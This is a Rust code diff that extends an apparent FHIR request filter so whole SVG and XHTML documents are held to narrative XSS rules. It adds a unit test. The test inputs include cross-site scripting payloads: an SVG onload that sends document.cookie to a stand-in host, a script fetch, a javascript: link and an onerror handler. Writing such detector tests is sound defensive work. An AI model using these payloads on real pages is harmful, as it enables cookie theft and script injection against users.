@@ -6,7 +6,8 @@
 //!   break), are inspected as values and named by their element's path below the root
 //!   (`note.text`, as in a JSON body), an attribute other than FHIR's `value` by `@name`.
 //! - A FHIR narrative (`<text><div xmlns="http://www.w3.org/1999/xhtml">`) is XHTML by design:
-//!   its markup as written is held to FHIR's narrative rules, as a JSON `text.div` is.
+//!   its markup as written is held to FHIR's narrative rules, as a JSON `text.div` is; so is a
+//!   whole SVG image or XHTML page (root `svg` or `html`), markup a browser runs.
 //! - A file carried inline, FHIR's XML form of `Attachment` and `Binary`
 //!   (`<contentType value="application/pdf"/><data value="JVBERi0…"/>`), is collected for
 //!   disarm by the same [`attachment::Collector`] a JSON body feeds. An attribute's raw text
@@ -236,7 +237,11 @@ impl Walk<'_> {
         // `data` and `contentType` are fields of the object around them, not objects.
         let leaf = matches!(name, "data" | "contentType");
         self.path.push(name, !leaf);
-        if self.narrative.is_none() && name == "div" && self.path.parent() == Some("text") {
+        // An SVG image or an XHTML page is markup a browser runs, as a narrative is: held
+        // whole to the same rules (no script, event handlers, `javascript:` URLs).
+        let active_document = self.path.depth() == 1 && matches!(name, "svg" | "html");
+        let fhir_narrative = name == "div" && self.path.parent() == Some("text");
+        if self.narrative.is_none() && (fhir_narrative || active_document) {
             self.narrative = Some((self.path.depth(), at));
         }
         if !leaf && !empty {
@@ -484,6 +489,30 @@ mod tests {
             assert_eq!(hits.len(), 1, "{bad}: {hits:?}");
             assert_eq!(hits[0].1, "text.div", "{bad}");
         }
+    }
+
+    /// An SVG image (XML, so inspected as a body on any route) or an XHTML page runs in a
+    /// browser: held to the narrative rules, its handlers and scripts refused.
+    #[test]
+    fn svg_and_xhtml_documents_are_held_to_the_narrative_rules() {
+        let ok = r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>血圧グラフ</title><rect x="0" y="0" width="10" height="10" fill="red"/></svg>"#;
+        assert_eq!(inspect(ok).0, vec![]);
+        for bad in [
+            r#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//x.example/'+document.cookie)"/>"#,
+            r#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('//x.example')</script></svg>"#,
+            r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:void(0)"><text>x</text></a></svg>"#,
+            r#"<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="x" onerror="go()"/></body></html>"#,
+        ] {
+            let (hits, _) = inspect(bad);
+            assert_eq!(
+                hits.iter().map(|h| h.0).collect::<Vec<_>>(),
+                ["xss-120"],
+                "{bad}"
+            );
+        }
+        // Deeper than the root, `svg` is an element like any other.
+        let (hits, _) = inspect(r#"<r><svg><a probe="x"/></svg></r>"#);
+        assert_eq!(hits, vec![]);
     }
 
     #[test]
